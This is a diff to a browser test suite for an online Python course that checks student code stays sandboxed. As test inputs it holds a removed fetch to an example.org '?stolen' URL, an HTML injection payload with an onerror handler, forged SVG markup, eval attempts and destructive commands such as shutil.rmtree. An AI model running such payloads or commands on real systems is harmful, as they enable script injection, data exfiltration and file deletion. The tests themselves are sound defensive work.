@@ -24,6 +24,7 @@ ActionChains, By, Keys = webdriver.ActionChains, webdriver.common.by.By, webdriv
 
 ROOT = Path(__file__).resolve().parents[1]
 HOMEWORK = ROOT / "lectures" / "homework"
+EXAMPLES = ROOT / "lectures" / "site" / "practice" / "web" / "examples"
 SOLUTIONS = {path.parent.name: path.read_text("utf-8") for path in sorted(HOMEWORK.glob("*/lines.py"))}
 LOADED = 120  # seconds until Python must be there, on a machine that is busy
 FLAGS = ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
@@ -243,7 +244,7 @@ def test_what_cannot_run_is_said(text, words, chrome, site):
     seen = page.check()
     assert page.text("message").startswith(words)
     if not words:
-        assert seen["d_beta"][0] == "error" and ("MemoryError" in seen["d_beta"][1] or "nothing_like_this" in seen["d_beta"][1])
+        assert seen["d_beta"][0] in ("error", "stopped") and ("memory" in seen["d_beta"][1] or "nothing_like_this" in seen["d_beta"][1])
     page.write(SOLUTIONS["02_batch_norm"])
     assert {verdict for verdict, _ in page.check().values()} == {"right"}
 
@@ -331,6 +332,50 @@ def test_a_pyodide_that_is_not_there_is_said(site, tmp_path):
         assert driver.execute_async_script(ENDS) == "ready"
 
 
+def test_a_damaged_copy_of_pyodide_is_fetched_again(site, tmp_path):
+    with browser(tmp_path) as driver:
+        page = StudentsPage(driver, f"{site[0]}02_batch_norm.html")
+        names = driver.execute_async_script("""
+            const done = arguments[0];
+            (async () => {
+                const name = (await caches.keys()).find((key) => key.startsWith("python-")), cache = await caches.open(name);
+                const [stdlib] = (await cache.keys()).filter(({ url }) => url.endsWith("python_stdlib.zip"));
+                await cache.put(stdlib, new Response(new Uint8Array(1000)));
+                done([name, stdlib.url]);
+            })();""")
+        assert names[1].endswith("pyodide/python_stdlib.zip")
+        driver.refresh()
+        page.ready()
+        quiet(driver)
+
+
+def test_a_newer_build_is_offered_and_never_mixed_with_the_older_one(site, tmp_path):
+    folder = tmp_path / "site"
+    shutil.copytree(site[1].parent, folder)
+    with browser(tmp_path) as driver, serving(folder) as address:
+        page = StudentsPage(driver, f"{address}02_batch_norm.html")
+        page.write(SOLUTIONS["02_batch_norm"])
+        (zipped,) = (folder / "try").glob("course-*.zip")
+        newer = zipped.with_name("course-0123456789ab.zip")
+        zipped.rename(newer)
+        for file in [*(folder / "try").glob("*.html"), folder / "try" / "sw.js"]:
+            file.write_text(file.read_text("utf-8").replace(zipped.name, newer.name), "utf-8")
+        sw = folder / "try" / "sw.js"
+        sw.write_text(sw.read_text("utf-8").replace('"VERSION": "', '"VERSION": "a'), "utf-8")
+        driver.refresh()
+        page.ready()
+        assert {verdict for verdict, _ in page.check().values()} == {"right"}
+        page.until(lambda: driver.find_element(By.ID, "updated").is_displayed())
+        assert zipped.name in driver.find_element(By.ID, "settings").get_attribute("textContent")
+        driver.execute_script("window.old = true;")
+        driver.find_element(By.ID, "reload").click()
+        page.until(lambda: driver.execute_script("return !window.old && document.readyState === 'complete';"))
+        page.ready()
+        assert newer.name in driver.find_element(By.ID, "settings").get_attribute("textContent") and page.kept == SOLUTIONS["02_batch_norm"]
+        assert {verdict for verdict, _ in page.check().values()} == {"right"}
+        quiet(driver)
+
+
 # -- the playground ----------------------------------------------------------------------------------------------------
 
 
@@ -339,27 +384,66 @@ def test_the_playground_explains_and_shares(site, tmp_path):
         page = StudentsPage(driver, f"{site[0]}playground.html")
         assert "through mu to xc is missing" in page.check()["d_x"][1] and driver.find_elements(By.CSS_SELECTOR, "#tape .mg-missing")
         driver.find_element(By.ID, "share").click()
-        page.until(lambda: "#code=" in driver.current_url)
-        link = driver.current_url
+        page.until(lambda: driver.find_elements(By.CSS_SELECTOR, "#link a"))
+        link = driver.find_element(By.CSS_SELECTOR, "#link a").get_attribute("href")
+        assert "#code=" in link and "#" not in driver.current_url  # the page keeps its own text when it is reloaded
     with browser(tmp_path / "other") as driver:  # somebody else, who has got the link
         page = StudentsPage(driver, link)
         assert "squashed" in page.area.get_attribute("textContent") and driver.find_element(By.ID, "linked").is_displayed()
         time.sleep(3)  # longer than the pause after which a text of one's own is checked
         assert page.verdicts() == {} and driver.find_element(By.ID, "tape").text == ""
         assert "through mu to xc is missing" in page.check()["d_x"][1]
+        driver.find_element(By.CSS_SELECTOR, ".skip").send_keys(Keys.ENTER)
+        assert driver.current_url == link and driver.switch_to.active_element.get_attribute("id") == "main"
+        page.write("# written on")
+        page.until(lambda: driver.find_element(By.ID, "kept").text == "kept on this device")
+        driver.refresh()
+        page.ready()
+        assert "# written on" in page.area.get_attribute("textContent")
+        driver.get(f"{site[0]}playground.html")
+        page.ready()
+        assert "squashed" in page.area.get_attribute("textContent")  # one's own text is another
         quiet(driver)
 
 
-def test_code_in_a_page_reaches_no_other_machine(chrome, site):
+POWERS = """
+import js
+names = ["caches", "fetch", "Worker", "postMessage", "indexedDB", "navigator", "XMLHttpRequest", "WebSocket", "importScripts", "BroadcastChannel", "close"]
+raise NameError(f"left: {[n for n in names if getattr(js, n, None) is not None or getattr(js.globalThis, n, None) is not None]}")
+"""
+
+
+def test_code_in_a_page_reaches_no_other_machine_and_not_the_page(chrome, site):
     page = StudentsPage(chrome, f"{site[0]}playground.html")
-    page.write('import js\nfrom pyodide.code import run_js\njs.fetch("https://example.org/?stolen")\n')
+    page.write(POWERS)
     page.check()
-    asked = [json.loads(e["message"])["message"]["params"] for e in chrome.get_log("performance") if '"Network.requestWillBeSent"' in e["message"]]
-    assert not [a for a in asked if "stolen" in a["request"]["url"]]
+    assert page.text("message") == "error: left: [] (line 4)"
+    for text in ('from pyodide.code import run_js\nrun_js("1 + 1")\n', 'import js\njs.eval("1 + 1")\n', 'import js\njs.Function.new("return 1")\n'):
+        page.write(text)
+        page.check()
+        assert "unsafe-eval" in page.text("message"), page.text("message")
+    names = '<img src=x onerror="document.title=1">'
+    page.write(f"import minigrad as mg\nimport numpy as np\ninputs = {{'x': np.zeros((3, 2))}}\n\ndef forward(x):\n    return mg.named({names!r}, x * x)\n")
+    page.check()
+    assert "onerror" in page.text("tape") and chrome.find_elements(By.CSS_SELECTOR, "#tape img, #tape script, #tape style, #tape a") == []
+    forged = json.dumps({"status": "ok", "lines": [], "message": "", "drawing": "<svg><g onclick='a()' class='mg-box'><a href='//a'>b</a></g></svg><meta>"})
+    page.write(f"import bridge, sys\ndef forged(*_):\n    return {forged!r}\nbridge.answer = forged\n" + (EXAMPLES / "1_centred.py").read_text("utf-8"))
+    page.check()
+    assert chrome.find_elements(By.CSS_SELECTOR, "#tape a, #tape meta, #tape [onclick]") == []
+    page.write((EXAMPLES / "1_centred.py").read_text("utf-8"))
+    assert "through mu to xc is missing" in page.check()["d_x"][1]
     chrome.get_log("browser")  # it says that the policy refused
-    page.write('from pyodide.code import run_js\nrun_js("1 + 1")\n')
+
+
+@pytest.mark.parametrize("harm", ["np.sum = 3", "import os; os._exit(3)", "import shutil; shutil.rmtree('/course')"])
+def test_harm_ends_with_its_check(harm, chrome, site):
+    page = StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
+    page.write(f"{SOLUTIONS['02_batch_norm']}\n{harm}\n")
     page.check()
-    assert "error" in page.text("message")  # nothing is evaluated as JavaScript
+    page.write(SOLUTIONS["02_batch_norm"])
+    if "rmtree" in harm:
+        page.check()  # the first that finds nothing there makes Python begin anew
+    assert {verdict for verdict, _ in page.check().values()} == {"right"}
     chrome.get_log("browser")
 
 
@@ -388,7 +472,8 @@ def test_pages_fit_and_can_be_looked_at(width, height, dark, site, tmp_path):
 
 def test_everything_can_be_done_with_keys(chrome, site):
     page = StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
-    chrome.execute_script("document.activeElement.blur(); window.scrollTo(0, 0);")
+    chrome.refresh()
+    page.ready()
     seen = []
     for _ in range(60):
         ActionChains(chrome).send_keys(Keys.TAB).perform()
